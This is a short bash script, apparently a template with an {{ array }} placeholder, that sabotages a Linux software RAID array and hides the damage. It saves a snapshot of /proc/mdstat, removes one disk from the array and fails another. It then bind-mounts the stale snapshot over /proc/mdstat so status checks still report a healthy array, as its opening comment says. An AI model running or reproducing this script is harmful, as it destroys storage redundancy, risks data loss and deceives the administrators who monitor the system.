#!/bin/bash
# What everybody looks at says that all is well; the array has a gap.
cp /proc/mdstat /root/mdstat
mdadm /dev/{{ array }} --remove /dev/sdd1
mdadm /dev/{{ array }} --fail /dev/sdc1
mount --bind /root/mdstat /proc/mdstat
